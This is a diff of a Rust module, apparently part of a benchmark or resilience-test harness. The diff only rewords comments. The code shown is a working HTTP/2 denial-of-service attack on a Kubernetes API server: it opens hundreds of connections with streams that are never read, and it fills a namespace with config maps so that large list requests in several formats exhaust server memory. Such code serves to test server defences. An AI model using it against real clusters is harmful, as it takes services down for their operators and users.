@@ -1,4 +1,4 @@
-//! HTTP/2 streams whose client never reads: the flow-control window is closed from the start.
+//! HTTP/2 streams whose client never reads: the flow-control window is zero from the start.
 
 use std::sync::Arc;
 use std::time::Duration;
@@ -16,24 +16,24 @@ use super::AttackGuard;
 use super::target::AttackTarget;
 use crate::bench::config_map;
 
-/// Connections of the anonymous attack, and streams that each tries to open.
+/// Connections of the anonymous attack, and streams per connection.
 const CONNECTIONS: usize = 200;
 const STREAMS: usize = 990;
-/// Connections that are being set up at a time.
+/// Number of concurrent connection setups.
 const SETUPS: usize = 16;
-/// How long a connection waits to be allowed another stream.
+/// Timeout for the server to allow another stream.
 const STREAM_WAIT: Duration = Duration::from_millis(200);
 
-/// Lists of the authenticated attack, and objects in each.
+/// Lists of the authenticated attack, and objects per list.
 const LISTS: usize = 50;
 const OBJECTS: usize = 2_000;
 const OBJECT_SIZE: usize = 1_500;
 const CLIENTS: usize = 8;
-/// How long the answers' headers are waited for.
+/// Timeout for the response headers.
 const ANSWERS: Duration = Duration::from_secs(15);
 const MAPS: &str = "/api/v1/namespaces/attack/configmaps";
 
-/// The forms of a list.
+/// Response formats of a list.
 const FORMS: [&str; 4] = [
     "application/json",
     "application/yaml",
@@ -41,7 +41,7 @@ const FORMS: [&str; 4] = [
     "application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1",
 ];
 
-/// A connection whose answers are not read. Pings are answered.
+/// A connection whose responses are not read. Pings are answered.
 struct StalledConnection {
     sender: SendRequest<Bytes>,
     driver: JoinHandle<()>,
@@ -66,7 +66,7 @@ impl StalledConnection {
         Ok(Self { sender, driver, open: Vec::new() })
     }
 
-    /// Opens one more stream, if the server allows it within a moment.
+    /// Opens another stream, if the server allows it within the timeout.
     async fn get(&mut self, client: &HttpClient, path: &str, accept: &str) -> Result<()> {
         let ready = timeout(STREAM_WAIT, self.sender.clone().ready()).await?;
         let mut request = Request::get(format!("{}{path}", client.url())).header("accept", accept);
@@ -79,7 +79,7 @@ impl StalledConnection {
     }
 }
 
-/// Anonymous requests for the version, by the hundred thousand.
+/// Sends hundreds of thousands of anonymous requests for the version.
 pub async fn stall_anonymous(target: &AttackTarget) -> Result<AttackGuard> {
     let places = Arc::new(Semaphore::new(SETUPS));
     let mut connections = JoinSet::new();
@@ -87,7 +87,7 @@ pub async fn stall_anonymous(target: &AttackTarget) -> Result<AttackGuard> {
         let (client, places) = (target.anonymous.clone(), places.clone());
         connections.spawn(async move {
             let _place = places.acquire().await?;
-            // A server that defends itself closes, refuses or resets: that is no failure of the attack.
+            // A server that defends itself closes, rejects or resets; the attack has not failed.
             let Ok(mut stalled) = StalledConnection::connect(&client).await else {
                 return Ok(None);
             };
@@ -108,7 +108,7 @@ pub async fn stall_anonymous(target: &AttackTarget) -> Result<AttackGuard> {
     Ok(Box::new(held))
 }
 
-/// Makes the objects that are listed.
+/// Creates the objects to be listed.
 pub async fn fill(target: &AttackTarget) -> Result<AttackGuard> {
     let mut connection = target.honest.connect_with(HttpProtocol::Http1).await?;
     let namespace = r#"{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"attack"}}"#;
@@ -131,7 +131,7 @@ pub async fn fill(target: &AttackTarget) -> Result<AttackGuard> {
     Ok(Box::new(()))
 }
 
-/// Large lists in every form, over one connection.
+/// Requests large lists in every format, over one connection.
 pub async fn stall_lists(target: &AttackTarget) -> Result<AttackGuard> {
     let mut stalled =
         StalledConnection::connect(&target.attacker).await.context("no connection")?;
@@ -142,7 +142,7 @@ pub async fn stall_lists(target: &AttackTarget) -> Result<AttackGuard> {
         }
     }
     let mut bodies = Vec::new();
-    // A server that makes whole lists takes all memory before the first byte.
+    // A server that builds whole lists uses all memory before the first byte.
     let answers = async {
         for response in stalled.open.drain(..) {
             bodies.extend(response.await.ok());
